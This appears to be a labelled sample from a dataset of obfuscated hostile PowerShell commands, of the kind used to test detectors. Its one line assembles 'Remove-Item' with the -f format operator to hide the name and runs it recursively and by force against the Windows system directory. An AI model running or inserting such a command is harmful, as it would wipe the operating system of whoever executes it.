# description: Builds Remove-Item with the -f format operator from reordered pieces.
# family: destruction
# obfuscated: yes
& ("{1}{0}" -f 'Item', 'Remove-') -Path $env:SystemRoot -Recurse -Force
